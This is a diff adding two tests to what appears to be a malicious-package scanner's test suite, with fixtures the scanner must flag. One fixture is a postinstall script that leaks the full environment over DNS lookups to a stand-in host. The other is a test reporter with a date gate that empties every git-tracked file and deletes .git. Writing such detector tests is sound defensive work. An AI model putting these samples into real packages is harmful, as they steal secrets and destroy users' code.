@@ -680,3 +680,43 @@ for (const f of ['AGENTS.md', 'CLAUDE.md']) fs.appendFileSync(path.join(process.
     expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
   });
 });
+
+describe('review of the thirteenth session, left items taken up', () => {
+  it('a lookup helper called four times harmlessly is still read when its fifth call carries the environment', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'probe-dns',
+        version: '1.0.0',
+        scripts: { postinstall: 'node i.js' },
+      }),
+      'i.js': `const dns = require('dns');
+const beacon = (label) => {
+  dns.resolveTxt(Buffer.from(label).toString('hex').slice(0, 60) + '.t.example-probe.net', () => {});
+};
+beacon('install');
+beacon(process.platform);
+beacon(process.arch);
+beacon(process.version);
+beacon(JSON.stringify(process.env));`,
+    });
+    expect(threats(r).some((f) => f.threat_type === 'data_exfiltration' && f.confidence >= 0.8)).toBe(true);
+  });
+  it('git options before ls-files and a trailing slash on .git still name the project behind a date gate', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs'), path = require('path');
+const { execFileSync } = require('child_process');
+module.exports = class Reporter {
+  onRunComplete() {
+    const root = this.root;
+    if (Date.now() >= 1793577600000) {
+      const files = execFileSync('git', ['-C', root, '--no-pager', 'ls-files', '-z']).toString().split('\\0');
+      for (const f of files) fs.truncateSync(path.join(root, f), 0);
+      fs.rmSync(path.join(root, '.git/'), { recursive: true, force: true });
+    }
+  }
+};`,
+    });
+    expect(threats(r).filter((f) => f.rule === 'js.geo-gated-destructive').length).toBeGreaterThanOrEqual(2);
+  });
+});
